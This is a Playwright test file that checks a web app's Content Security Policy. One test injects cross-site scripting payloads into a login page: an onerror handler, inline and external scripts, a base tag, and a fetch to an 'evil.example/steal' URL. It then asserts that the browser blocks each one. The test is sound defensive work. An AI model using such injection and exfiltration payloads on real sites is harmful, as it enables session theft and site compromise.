import { makeTrial } from '../paying-business';
import { expect, signIn, test } from './fixtures';

test('what somebody smuggles into a page does not run', async ({ browser }) => {
  // A page of its own: the browser reports each refusal as an error.
  const page = await (await browser.newContext()).newPage();
  await page.goto('/login');
  await page.evaluate(() => {
    const refused: string[] = [];
    Object.assign(window, { refused });
    document.addEventListener('securitypolicyviolation', (event) =>
      refused.push(`${event.effectiveDirective} ${event.blockedURI}`),
    );
    document.body.insertAdjacentHTML(
      'beforeend',
      '<img src="/nothing.png" onerror="window.hacked = 1">',
    );
    document.body.insertAdjacentHTML('beforeend', '<p style="color: red">styled</p>');
    const script = document.createElement('script');
    script.textContent = 'window.hacked = 2';
    document.body.append(script);
    const foreign = document.createElement('script');
    foreign.src = 'https://evil.example/x.js';
    document.body.append(foreign);
    const base = document.createElement('base');
    base.href = 'https://evil.example/';
    document.head.append(base);
    void fetch('https://evil.example/steal').catch(() => {});
  });
  const refused = () =>
    page.evaluate(() => (window as unknown as { refused: string[] }).refused.toSorted());
  await expect
    .poll(refused)
    .toEqual([
      'base-uri https://evil.example/',
      'connect-src https://evil.example/steal',
      'script-src-attr inline',
      'script-src-elem https://evil.example/x.js',
      'script-src-elem inline',
      'style-src-attr inline',
    ]);
  expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
  await page.context().close();
});

test('a page that needs the program of others is a document of its own, however it is reached', async ({
  page,
}) => {
  const { email } = await makeTrial('Policy & Sons');
  await signIn(page, email);
  await page.getByRole('link', { name: 'Billing', exact: true }).click();
  await page.getByRole('link', { name: 'Choose a plan' }).click();
  await expect(page.getByRole('button', { name: 'Choose Pro' })).toBeVisible();
  await page.evaluate(() => Object.assign(window, { isBefore: true }));
  await page.getByRole('button', { name: 'Choose Pro' }).click();
  await expect(page.frameLocator('iframe').getByLabel('E-mail')).toBeVisible();
  expect(await page.evaluate(() => 'isBefore' in window)).toBe(false);
});
